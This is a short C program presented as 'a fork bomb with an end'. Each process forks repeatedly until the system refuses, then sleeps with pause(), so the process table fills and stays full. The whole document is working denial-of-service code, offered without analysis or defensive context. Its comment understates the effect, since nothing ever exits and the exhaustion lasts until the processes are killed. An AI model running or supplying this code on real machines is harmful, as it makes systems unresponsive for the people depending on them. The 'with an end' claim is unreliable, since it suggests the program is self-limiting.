/* A fork bomb with an end: every process forks until there are as many as the machine allows. */
#include <unistd.h>
int main(void) {
  while (fork() >= 0)
    ;
  pause();
  return 0;
}
